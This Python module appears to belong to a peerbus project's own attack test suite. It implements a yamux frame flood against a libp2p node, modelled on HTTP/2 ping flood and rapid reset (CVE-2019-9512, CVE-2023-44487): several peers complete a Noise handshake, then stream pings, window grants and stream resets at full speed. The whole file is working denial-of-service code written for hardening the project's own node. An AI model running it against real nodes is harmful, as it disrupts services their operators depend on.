"""Peers that come by libp2p and send what carries nothing: pings, grants, streams that are opened and dropped.

As HTTP/2's ping flood and rapid reset (CVE-2019-9512, CVE-2023-44487), a floor below the bus's own frames.
"""

from __future__ import annotations

import asyncio
import contextlib
from typing import Final

from peerbus.transports.libp2p.noise_identity import NoiseIdentity
from peerbus.transports.libp2p.secure_channel import SecureChannel
from peerbus.transports.libp2p.upgrade import Upgrade
from peerbus.transports.libp2p.yamux_frames import YamuxFlag, YamuxKind, header
from peerbus.transports.streams.identity import Identity

from ..attack import Attack, Target, source_address
from ..raw import reset

__all__ = ["ATTACK"]

#: Frames of one write, and of one connection.
_BLOCK: Final = 600
_MOST: Final = 1_000_000
#: Seconds for an upgrade.
_WITHIN: Final = 10.0


def _block(stream: int) -> bytes:
    """A third of each; `stream`: the next that the dialer may open."""
    parts: list[bytes] = []
    for number in range(stream, stream + 2 * (_BLOCK // 3), 2):
        parts += (
            header(YamuxKind.PING, YamuxFlag.SYN, 0, number),
            header(YamuxKind.WINDOW, YamuxFlag.SYN, number, 1),
            header(YamuxKind.WINDOW, YamuxFlag.RST, number, 0),
        )
    return b"".join(parts)


async def _upgraded(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> SecureChannel:
    upgrade = Upgrade(NoiseIdentity(Identity.generate()), initiator=True, judge=lambda _key: None)
    writer.write(upgrade.start())
    while not upgrade.done:
        data = await reader.read(65_536)
        if not data:
            raise EOFError("the node ends it")
        said, _ = upgrade.receive(data)
        writer.write(said)
    return upgrade.channel


async def _run(target: Target) -> None:
    async def once(number: int) -> None:
        reader, writer = await asyncio.open_connection(
            target.host, target.libp2p_port, local_addr=(source_address(number), 0)
        )
        reading: asyncio.Future[bytes] | None = None
        sent, most = 0, target.scaled(_MOST, 30_000)
        try:
            async with asyncio.timeout(_WITHIN):
                channel = await _upgraded(reader, writer)
            reading = asyncio.ensure_future(reader.read(-1))
            while sent < most and not reading.done():
                writer.write(channel.seal(_block(1 + 2 * (sent // 3))))
                sent += _BLOCK
                with contextlib.suppress(ConnectionError):
                    await writer.drain()
                await asyncio.sleep(0)
        finally:
            target.facts["frames of yamux"] += sent
            reset(writer)
            if reading is not None:
                reading.cancel()
                await asyncio.gather(reading, return_exceptions=True)

    await target.repeat(once, side_by_side=target.scaled(10, 2))


ATTACK = Attack(
    number=5,
    name="yamux",
    about="ten peers that come by libp2p and send pings, grants and streams that are dropped at once, at full speed",
    run=_run,
    node={"listen": ["tcp://127.0.0.1:0", "libp2p+tcp://127.0.0.1:0"]},
    small=4,
)
